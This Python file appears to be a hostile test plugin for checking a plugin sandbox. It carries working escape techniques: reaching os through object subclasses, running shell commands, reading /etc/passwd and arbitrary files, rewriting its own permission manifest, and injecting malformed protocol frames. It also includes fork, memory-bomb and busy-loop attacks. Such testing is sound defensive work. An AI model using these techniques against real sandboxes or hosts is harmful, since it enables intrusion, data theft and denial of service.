"""Each command is one attack; it returns what it got, or fails with what stopped it.

Only allowed modules are imported at the top, so that the plugin loads; everything
else is reached the ways a real attacker would.
"""

import asyncio
import threading

from acp_plugins import CommandDefinition, CommandResult, Plugin, hookimpl

ATTACKS = (
    "import-os",
    "import-missing",
    "import-subprocess",
    "import-socket",
    "import-ctypes",
    "dunder-import",
    "importlib-import",
    "escape-system",
    "read-passwd",
    "read-file",
    "write-outside",
    "write-inside",
    "connect",
    "fork",
    "memory-bomb",
    "spin-hook",
    "spin-async",
    "spin-thread",
    "huge-response",
    "garbage-frame",
    "oversized-frame",
    "run-command",
    "find-host",
    "gc-objects",
    "tamper-manifest",
    "crash",
)


def _os():
    """The os module, found without importing it."""
    for klass in object.__subclasses__():
        if klass.__name__ == "_wrap_close":
            return klass.__init__.__globals__
    raise LookupError("no way to os")


def _sys():
    return _os()["sys"]


def _worker_writer():
    frame = _sys()._getframe()
    while frame is not None:
        candidate = frame.f_locals.get("self")
        if hasattr(candidate, "transport") and hasattr(candidate, "calls"):
            return candidate.transport
        frame = frame.f_back
    raise LookupError("no worker on the stack")


class Intruder(Plugin):
    @hookimpl
    def get_commands(self):
        return {
            name: CommandDefinition(
                name=name, arguments=[{"name": "args", "required": False, "variadic": True}]
            )
            for name in ATTACKS
        }

    @hookimpl
    async def execute_command(self, command, args, context):
        if command == "spin-async":
            while True:  # blocks the worker's event loop: only a kill ends it
                pass
        if command in ("garbage-frame", "oversized-frame"):
            writer = _worker_writer()
            if command == "garbage-frame":
                writer.write(b"\x00\x00\x00\x0bnot json!!!")
            else:
                writer.write(b"\x7f\xff\xff\xff")
            return CommandResult(output="sent")
        if command == "run-command":
            result = await context.run_command("victim:ping")
            return CommandResult(output=result.output)
        return await asyncio.to_thread(self._attack, command, args, context)

    def _attack(self, command, args, context):
        if command == "import-missing":
            import acp_fx_no_such_module  # noqa: F401  # not installed anywhere

            return CommandResult(output="imported?")
        if command == "import-os":
            import os

            return CommandResult(output=os.getcwd())
        if command == "import-subprocess":
            import subprocess

            return CommandResult(output=subprocess.check_output(["id"]).decode())
        if command == "import-socket":
            import socket

            return CommandResult(output=str(socket.gethostname()))
        if command == "import-ctypes":
            import ctypes

            return CommandResult(output=str(ctypes.CDLL(None).getpid()))
        if command == "dunder-import":
            return CommandResult(output=str(__import__("os").getpid()))
        if command == "importlib-import":
            importlib = _sys().modules["importlib"]
            return CommandResult(output=str(importlib.import_module("subprocess")))
        if command == "escape-system":
            return CommandResult(output=str(_os()["system"]("id > /tmp/acp-intruder-was-here")))
        if command == "read-passwd":
            with open("/etc/passwd") as passwd:
                return CommandResult(output=passwd.read())
        if command == "read-file":
            with open(args[0]) as stolen:
                return CommandResult(output=stolen.read())
        if command == "write-outside":
            with open(args[0], "w") as planted:
                planted.write("planted")
            return CommandResult(output="written")
        if command == "write-inside":
            path = context.data_dir / "notes.txt"
            path.write_text("mine")
            return CommandResult(output=path.read_text())
        if command == "connect":
            socket = asyncio.base_events.socket
            with socket.create_connection(("127.0.0.1", int(args[0])), timeout=2) as conn:
                conn.sendall(b"stolen")
            return CommandResult(output="connected")
        if command == "fork":
            pid = _os()["fork"]()
            if pid == 0:
                _os()["_exit"](0)
            return CommandResult(output=f"forked {pid}")
        if command == "memory-bomb":
            hoard = [bytearray(16 * 1024 * 1024) for _ in range(64)]
            return CommandResult(output=str(len(hoard)))
        if command == "spin-hook":
            while True:
                pass
        if command == "spin-thread":

            def spin():
                while True:
                    pass

            threading.Thread(target=spin, daemon=True).start()
            return CommandResult(output="spinning")
        if command == "huge-response":
            return CommandResult(output="x" * (9 * 1024 * 1024))
        if command == "find-host":
            found = set()
            frame = _sys()._getframe()
            while frame is not None:
                for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
                    name = type(value).__name__
                    if "Host" in name or "Record" in name:
                        found.add(name)
                frame = frame.f_back
            return CommandResult(output=",".join(sorted(found)) or "nothing")
        if command == "gc-objects":
            gc = _sys().modules.get("gc")
            if gc is None:
                import gc
            return CommandResult(output=str(len(gc.get_objects())))
        if command == "tamper-manifest":
            manifest = self.manifest_path()
            with open(manifest, "w") as target:
                target.write('{"permissions": ["manage-database"]}')
            return CommandResult(output="tampered")
        if command == "crash":
            _os()["_exit"](3)
        raise ValueError(f"unknown attack {command}")

    def manifest_path(self):
        return __file__.rpartition("/")[0] + "/manifest.json"
